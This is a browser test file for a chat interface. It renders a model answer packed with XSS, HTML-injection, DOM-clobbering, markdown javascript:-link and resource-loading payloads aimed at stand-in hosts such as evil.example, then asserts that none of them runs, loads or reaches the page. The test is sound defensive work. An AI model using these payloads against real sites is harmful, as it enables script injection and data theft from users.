"""Does what a model writes ever run, load or pose as the page? An answer full of attempts."""

import re

import pytest
from playground.visiting import Visit, Visits
from playwright.async_api import Request, expect

from service.simulator import Text

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

ATTACKS = (
    "<script>ran('script')</script>",
    "<script src=/static/leak.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=/leak onerror=ran('img')>",
    '<img src="data:image/svg+xml,<svg onload=ran(1)>">',
    "<svg onload=ran('svg')><script>ran('in svg')</script></svg>",
    "<svg><a xlink:href='javascript:ran(1)'><text>svg</text></a></svg>",
    "<svg><use href='/leak#x'/><animate onbegin=ran(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=ran(1)&gt;'>",
    "<math href='javascript:ran(1)'>math</math>",
    "<iframe src=/leak></iframe><iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<object data=/leak></object><embed src=/leak>",
    "<form action=/leak><input name=q autofocus onfocus=ran(1)><button>Sign in</button></form>",
    "<kbd>x<input type=password class=sign-in,></kbd> <code>y<input type=text ,></code>",
    '<pre>z<h3 class="menu" ,>Big</h3></pre> <kbd><img src=/leak onerror=ran(1) ,></kbd>',
    "<form id=composer><input id=message name=attributes></form>",
    "<a id=announcer name=client href=/leak>clobbered</a>",
    "<style>body{display:none} @import '/leak';</style>",
    "<link rel=stylesheet href=/leak><meta http-equiv=refresh content='0;url=/leak'>",
    "<base href=//evil.example/>",
    "<div style='position:fixed;inset:0;background:url(/leak)'>over all</div>",
    "<details open ontoggle=ran(1)><summary>x</summary></details>",
    "<video src=/leak onerror=ran(1)></video><audio src=/leak autoplay></audio>",
    "<body onload=ran(1)><marquee onstart=ran(1)>x</marquee>",
    "<b onclick=ran(1) id=title>bold</b> <br onload=ran(1)/>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'></noscript>",
    "<template><script>ran(1)</script></template><slot name=x>",
    "[a](javascript:ran('link')) [b](JaVaScRiPt:ran(1)) [c](&#106;avascript:ran(1))",
    "[d](java\tscript:ran(1)) [e](\x01javascript:ran(1)) [f](<javascript:ran(1)>)",
    "[g](data:text/html,<script>ran(1)</script>) [h](vbscript:ran(1)) [i](blob:x) [j](file:///etc)",
    "[k](//evil.example/x) [l](/api/conversations) [m](#c=other)",
    "[n](https://evil.example 'x\" onclick=\"ran(1)')",
    "<javascript:ran(1)> <https://evil.example/auto>",
    "![x](/leak) ![x](//evil.example/leak.png) ![x](https://evil.example/leak.png)",
    "![x](https://evil.example/leak.png 'x\" onerror=\"ran(1)')",
    '![x](javascript:ran(1)) ![x" onerror="ran(1)](https://evil.example/y) ![](data:text/html,x)',
    "[ref]: javascript:ran(1)\n\n[ref] ![ref][ref]",
    "```\"><img src=x onerror=ran(1)>\n</code></pre><script>ran('code')</script>\n```",
    "```html\n<img src=/leak onerror=ran(1)><script>ran(1)</script>\n```",
    "`<img src=x onerror=ran(1)>` \\<script>ran(1)\\</script> &lt;script&gt;ran(1)&lt;/script&gt;",
    "| <img src=x onerror=ran(1)> | <svg onload=ran(1)> |\n| --- | --- |\n"
    "| <script>ran(1)</script> | x |",
    "- [x] <input type=image src=/leak onerror=ran(1)>\n- <li onclick=ran(1)>",
    "> <blockquote onclick=ran(1)>\n\n# <h1 id=main onclick=ran(1)>",
    "\u202egnp.eslaf\u202c \u2066<script>\u2069 \ufeff<\u200bscript>ran(1)</script>",
    "\x00<script\x00>ran(1)</script> \u2028<script>ran(1)</script>",
    "<<script>script>ran(1)</</script>script> <scr<script>ipt>ran(1)</scr</script>ipt>",
    "<b><i><u><sub><sup><kbd><mark><q><small>",
    "<!--><script>ran(1)</script>--> <![CDATA[<script>ran(1)</script>]]> <?php ran(1) ?>",
    "<constructor> __proto__ <b __proto__=x> <x-y is=z>",
)
ANSWER = "\n\n".join(ATTACKS) + "\n\nThe end."

RAN = """
globalThis.hits = [];
globalThis.ran = (what) => { hits.push(String(what)); };
globalThis.alert = globalThis.ran;
"""

HARMFUL = """
() => {
  const allowed = new Set((
    "A B BLOCKQUOTE BR BUTTON CODE COL COLGROUP DEL DIV EM H3 H4 H5 H6 HR I INPUT INS KBD LI "
    + "MARK OL P PRE Q S SMALL SPAN STRONG SUB SUP svg TABLE TBODY TD TH THEAD TR U UL use"
  ).split(" "));
  const bad = new Set(["id", "name", "src", "srcdoc", "style", "action", "formaction"]);
  const link = /^(https?|mailto):/;
  const found = [];
  for (const it of document.querySelectorAll(".message *")) {
    if (!it.closest(".markdown")) continue;
    if (!allowed.has(it.nodeName)) found.push(it.outerHTML.slice(0, 100));
    for (const { name, value } of it.attributes) {
      const isOurs = name === "style" && ["COL", "TABLE"].includes(it.nodeName);
      const isBad = name.startsWith("on") || (bad.has(name) && !isOurs);
      if (isBad) found.push(`${it.nodeName} ${name}=${value}`);
    }
    const isBox = it.type === "checkbox" && it.disabled;
    if (it.nodeName === "INPUT" && !isBox) found.push(it.outerHTML);
    if (it.nodeName === "A") {
      const isApart = it.target === "_blank" && it.rel === "noopener noreferrer";
      if (!isApart || !link.test(it.getAttribute("href"))) found.push(it.outerHTML);
    }
  }
  return found;
}
"""


async def harm(visit: Visit) -> list[str]:
    """What ran, and what is on the page that must not be."""
    hits = await visit.page.evaluate("hits.map((hit) => `ran: ${hit}`)")
    found = await visit.page.evaluate(HARMFUL)
    return [*hits, *found]


@pytest.mark.parametrize("tokens_per_second", [0, 2000])
async def test_nothing_in_an_answer_runs_or_loads(visits: Visits, tokens_per_second: float) -> None:
    answer = Text(ANSWER, reasoning=ANSWER, tokens_per_second=tokens_per_second)
    async with visits.opened(answer, init_script=RAN) as visit:
        requests: list[str] = []

        def note(request: Request) -> None:
            requests.append(request.url)

        visit.page.on("request", note)
        await visit.ask("<img src=/leak onerror=ran('question')> " + ATTACKS[0])
        await expect(visit.last_answer.get_by_text("The end.")).to_be_visible()
        await visit.answered()
        assert await harm(visit) == []

        await visit.page.locator("summary").filter(has_text="Reasoning").click()
        for text in ("bold", "clobbered", "over all"):
            await visit.last_answer.get_by_text(text).first.click()
        assert await harm(visit) == []

        await visit.page.reload()
        await expect(visit.last_answer.get_by_text("The end.")).to_be_visible()
        assert await harm(visit) == []
        await expect(visit.message).to_be_editable()
        assert [url for url in requests if re.search("leak|evil|data:", url)] == []
